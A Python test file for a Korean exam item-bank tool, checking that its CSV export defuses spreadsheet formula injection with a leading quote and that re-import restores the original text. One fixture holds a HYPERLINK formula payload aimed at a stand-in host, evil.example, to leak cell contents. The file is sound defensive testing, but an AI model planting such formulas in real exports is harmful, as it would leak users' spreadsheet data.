"""CSV export and Excel formulas: a cell that starts like a formula (=, +, -, @, tab, CR) is written with
a leading ' by the real `itembank export`, and `itembank import` of that file gives the original text
back; a quote in somebody else's sheet is kept as written (engine/csv_cells.py)."""

from __future__ import annotations

import csv
import json

import pytest

from conftest import CSV_HEADER_KO, write_csv, write_jsonl
from engine.api import ItemBank
from engine.csv_cells import EXPORT_HEADERS, FORMULA_STARTS, neutralise, restore

RISKY = [
    {"id": "F-EQ", "subject": "정보", "grade": "중1", "type": "단답형",
     "stem": '=HYPERLINK("http://evil.example/?"&A1,"클릭")', "answer": "=1+1"},
    {"id": "F-PLUS", "subject": "수학", "grade": "중1", "type": "단답형",
     "stem": "+2와 -5의 합은?", "answer": "-3"},  # 수학 단답형: -3 must not become a number/formula
    {"id": "F-AT", "subject": "정보", "grade": "중2", "type": "객관식",
     "stem": "@SUM(A1:A3)을 입력하면?", "choices": ["=SUM(1,2)", "-1", "+1", "@", "보통 보기"],
     "answer": "1", "explanation": "-끝-"},
    {"id": "F-TAB", "subject": "국어", "grade": "중1", "type": "서술형",
     "stem": "다음 글을 읽고 답하시오.", "passage": "\t=1+1 탭으로 시작하는 지문", "answer": "\r=2"},
    {"id": "F-QUOTE", "subject": "영어", "grade": "중3", "type": "단답형",
     "stem": "'=이미 따옴표가 붙은 문항", "answer": "'-3"},
    {"id": "F-PLAIN", "subject": "영어", "grade": "중3", "type": "단답형",
     "stem": "'Tis the season: 빈칸에 알맞은 말은?", "answer": "3", "tags": ["-태그"]},
]


@pytest.fixture
def risky_bank(bank, tmp_path):
    report = bank.import_path(write_jsonl(tmp_path / "risky.jsonl", RISKY))
    assert report.imported == len(RISKY), report.to_dict()
    return bank


def exported_rows(path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    assert tuple(rows[0]) == EXPORT_HEADERS
    return [dict(zip(rows[0], row)) for row in rows[1:]]


def test_export_puts_a_quote_before_every_cell_excel_would_run(risky_bank, data_dir, tmp_path, run_cli):
    target = tmp_path / "out.csv"
    code, out, err = run_cli("export", target, "--json", "--data-dir", data_dir)
    assert code == 0, err
    assert json.loads(out)["exported"] == len(RISKY)
    rows = {row["id"]: row for row in exported_rows(target)}
    for row in rows.values():
        for header, cell in row.items():
            assert not cell.startswith(FORMULA_STARTS), (row["id"], header, cell)
    stored = {item.id: item for item in risky_bank.catalog.iter_items()}
    assert rows["F-EQ"]["문항"] == "'" + stored["F-EQ"].stem
    assert rows["F-EQ"]["정답"] == "'=1+1"
    assert rows["F-PLUS"]["문항"] == "'+2와 -5의 합은?" and rows["F-PLUS"]["정답"] == "'-3"
    assert rows["F-AT"]["문항"].startswith("'@SUM")
    assert rows["F-AT"]["해설"] == "'-끝-"
    # The choices are one cell; only its start matters to Excel.
    assert rows["F-AT"]["보기"] == "'" + "\n".join(stored["F-AT"].choices)
    assert stored["F-TAB"].passage.startswith(("\t", "="))  # the importer trims the tab
    assert rows["F-TAB"]["지문"] == "'" + stored["F-TAB"].passage
    assert rows["F-QUOTE"]["문항"] == "''=이미 따옴표가 붙은 문항" and rows["F-QUOTE"]["정답"] == "''-3"
    # Ordinary cells, including one that starts with a quote, are written as they are.
    assert rows["F-PLAIN"]["문항"] == "'Tis the season: 빈칸에 알맞은 말은?"
    assert rows["F-PLAIN"]["정답"] == "3" and rows["F-PLAIN"]["과목"] == "영어"


def test_importing_our_own_export_gives_the_original_text_back(risky_bank, data_dir, tmp_path, run_cli):
    for encoding in ("utf-8-sig", "cp949"):
        target = tmp_path / encoding / "out.csv"
        target.parent.mkdir()
        assert run_cli("export", target, "--encoding", encoding, "--data-dir", data_dir)[0] == 0
        fresh = tmp_path / encoding / "fresh"
        code, out, err = run_cli("import", target, "--json", "--data-dir", fresh)
        assert code == 0, err
        assert json.loads(out)["imported"] == len(RISKY)
        copy = ItemBank(fresh)
        try:
            for item in risky_bank.catalog.iter_items():
                twin = copy.get(item.id)
                assert (twin.stem, twin.passage, twin.choices, twin.answer, twin.explanation, twin.tags) == \
                    (item.stem, item.passage, item.choices, item.answer, item.explanation, item.tags)
        finally:
            copy.close()


def test_a_teachers_own_sheet_keeps_its_leading_quotes(bank, tmp_path):
    sheet = write_csv(tmp_path / "mine.csv", [
        CSV_HEADER_KO,
        "수학,중1,정수,,하,단답형,'-3의 절댓값은?,,'3,,",
        "영어,중3,,,중,단답형,'Tis the season,,'=1,,",
    ])
    assert bank.import_path(sheet).imported == 2
    stems = {item.stem: item.answer for item in bank.catalog.iter_items()}
    assert stems == {"'-3의 절댓값은?": "'3", "'Tis the season": "'=1"}


@pytest.mark.parametrize("text", ["", "보통", "-3", "=1", "+", "@x", "\t1", "\r", "'", "'a", "'=1", "''-3",
                                  "a=1", " -3"])
def test_neutralise_is_undone_exactly_by_restore(text):
    written = neutralise(text)
    assert not written.startswith(FORMULA_STARTS)
    assert restore(written) == text
    if not text.startswith(FORMULA_STARTS) and not text.startswith("'"):
        assert written == text


def test_the_duplicates_review_sheet_is_neutralised_too(risky_bank, tmp_path):
    from engine.search.duplicates import DuplicateCluster, PairScore, write_clusters_csv

    items = {item.id: item for item in risky_bank.catalog.iter_items()}
    cluster = DuplicateCluster(ids=["F-EQ", "F-PLUS"],
                               pairs=[PairScore("F-EQ", "F-PLUS", 0.9, "text", 0.9)])
    out = tmp_path / "dups.csv"
    write_clusters_csv([cluster], items, out)
    with out.open(encoding="utf-8-sig", newline="") as handle:
        header, row = list(csv.reader(handle))
    cells = dict(zip(header, row))
    assert cells["stem_a"] == "'" + items["F-EQ"].stem and cells["stem_b"] == "'" + items["F-PLUS"].stem
    assert cells["id_a"] == "F-EQ" and cells["score"] == "0.9000"
